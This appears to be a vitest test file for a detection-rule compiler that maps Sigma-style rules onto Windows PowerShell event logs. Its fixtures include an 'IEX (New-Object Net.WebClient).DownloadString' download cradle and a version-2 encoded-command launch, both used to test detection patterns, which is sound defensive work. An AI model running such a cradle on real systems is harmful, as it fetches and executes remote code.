import { describe, expect, test } from "vitest";
import { compiledFor, eventOf, forFormat, refusedFor } from "./shipped.js";

describe("windows-powershell (4103 and 4104)", () => {
  const block = {
    Channel: "Microsoft-Windows-PowerShell/Operational",
    EventID: 4104,
    MessageNumber: 1,
    MessageTotal: 1,
    ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://lab')",
    ScriptBlockId: "a1b2",
    Path: "",
  };
  const module = {
    Channel: "PowerShellCore/Operational",
    EventID: 4103,
    ContextInfo: "        Severity = Informational\r\n        Host Name = ConsoleHost",
    Payload: 'CommandInvocation(Get-Process): "Get-Process"',
  };

  test("ps_script reads 4104, ps_module reads 4103", () => {
    const script = compiledFor(
      "windows-powershell",
      "product: windows, category: ps_script",
      "ScriptBlockText|contains|all: [IEX, Net.WebClient]",
    );
    expect(script.matches(eventOf("windows-powershell", block))).toBe(true);
    expect(script.matches(eventOf("windows-powershell", { ...block, EventID: 4103 }))).toBe(false);
    expect(script.matches(eventOf("windows-powershell", { ...block, ScriptBlockText: "Get-Date" }))).toBe(
      false,
    );
    const called = compiledFor(
      "windows-powershell",
      "product: windows, category: ps_module",
      "Payload|contains: Get-Process",
    );
    expect(called.matches(eventOf("windows-powershell", module))).toBe(true);
    expect(called.matches(eventOf("windows-powershell", { ...module, EventID: 4104 }))).toBe(false);
  });

  test("a rule for service powershell is taken as it is, other log sources are refused", () => {
    const rule = compiledFor("windows-powershell", "product: windows, service: powershell", "EventID: 40962");
    expect(rule.matches(eventOf("windows-powershell", { EventID: 40962 }))).toBe(true);
    expect(
      refusedFor("windows-powershell", "product: windows, category: ps_classic_start", "A: 1").code,
    ).toBe("pipeline-refused");
  });

  test("fields of the other events are warned about", () => {
    const { diagnostics } = forFormat(
      "windows-powershell",
      "product: windows, category: ps_script",
      "HostApplication: x",
    );
    expect(diagnostics).toMatchObject([{ code: "field-not-in-format", severity: "warning", line: 5 }]);
  });
});

const lines = [
  "\tNewEngineState=Available",
  "\tPreviousEngineState=None",
  "",
  "\tSequenceNumber=13",
  "",
  "\tHostName=ConsoleHost",
  "\tHostVersion=2.0",
  "\tHostApplication=powershell.exe -version 2 -enc AAAA",
  "\tEngineVersion=2.0",
  "\tRunspaceId=1234",
].join("\r\n");

describe("windows-powershell-classic-raw (400, 403, 600, 800 with their text in Data)", () => {
  const id = "windows-powershell-classic-raw";
  const started = { Channel: "Windows PowerShell", EventID: 400, Data: ["Available", "None", lines] };
  const matches = (rule: string, fields: Record<string, unknown> = started): boolean =>
    compiledFor(id, "product: windows, category: ps_classic_start", rule).matches(eventOf(id, fields));

  test("Data is taken as it is, as an element of a list or as a text", () => {
    expect(matches("Data|contains: HostName=ConsoleHost")).toBe(true);
    expect(matches("Data|contains: HostName=ConsoleHost", { ...started, Data: lines })).toBe(true);
    expect(matches("Data|contains: HostName=Other")).toBe(false);
    expect(matches("Data|contains: HostName=ConsoleHost", { ...started, EventID: 403 })).toBe(false);
  });

  test("a line is found by the beginning of its value", () => {
    expect(matches("EngineVersion|startswith: '2.'\nHostName|startswith: Console")).toBe(true);
    expect(matches("EngineVersion|startswith: '5.'")).toBe(false);
    expect(matches("HostApplication|startswith: powershell.exe -version")).toBe(true);
    // What stands in the line of the application is not another line.
    const disguised = {
      ...started,
      Data: lines.replace("EngineVersion=2.0", "EngineVersion=5.1").replace("-enc AAAA", "EngineVersion=2.0"),
    };
    expect(matches("EngineVersion|startswith: '2.'", disguised)).toBe(false);
  });

  test("event 403 has no category: its rules have service powershell-classic", () => {
    const rule = compiledFor(
      id,
      "product: windows, service: powershell-classic",
      "EventID: 403\nEngineVersion|startswith: '2.'",
    );
    expect(rule.matches(eventOf(id, { ...started, EventID: 403 }))).toBe(true);
  });

  test.each([
    "HostApplication|contains: -enc",
    "EngineVersion: '2.0'",
    "HostName|endswith: Host",
    String.raw`HostName: 'Console\*'`,
    "EngineVersion: 2",
    "HostName: null",
  ])("the rest of a line cannot be told from what follows it: %s is refused", (line) => {
    expect(refusedFor(id, "product: windows, category: ps_classic_start", line)).toMatchObject({
      code: "pipeline-refused",
      line: 5,
    });
  });
});

describe("windows-powershell-classic (a field for each line)", () => {
  const id = "windows-powershell-classic";
  const started = {
    Channel: "Windows PowerShell",
    EventID: 400,
    EngineVersion: "2.0",
    HostName: "ConsoleHost",
    HostApplication: "powershell.exe -version 2",
  };

  test.each([
    ["ps_classic_start", 400],
    ["ps_classic_provider_start", 600],
    ["ps_classic_script", 800],
  ])("%s is event %i", (category, eventId) => {
    const rule = compiledFor(
      id,
      `product: windows, category: ${category}`,
      "HostApplication|contains: '-version 2'\nEngineVersion: '2.0'",
    );
    expect(rule.matches(eventOf(id, { ...started, EventID: eventId }))).toBe(true);
    expect(rule.matches(eventOf(id, { ...started, EventID: 1 }))).toBe(false);
  });

  test("a rule for service powershell-classic is taken as it is, others are refused", () => {
    const rule = compiledFor(id, "product: windows, service: powershell-classic", "EventID: 403");
    expect(rule.matches(eventOf(id, { ...started, EventID: 403 }))).toBe(true);
    expect(refusedFor(id, "product: windows, category: ps_script", "A: 1").code).toBe("pipeline-refused");
  });
});
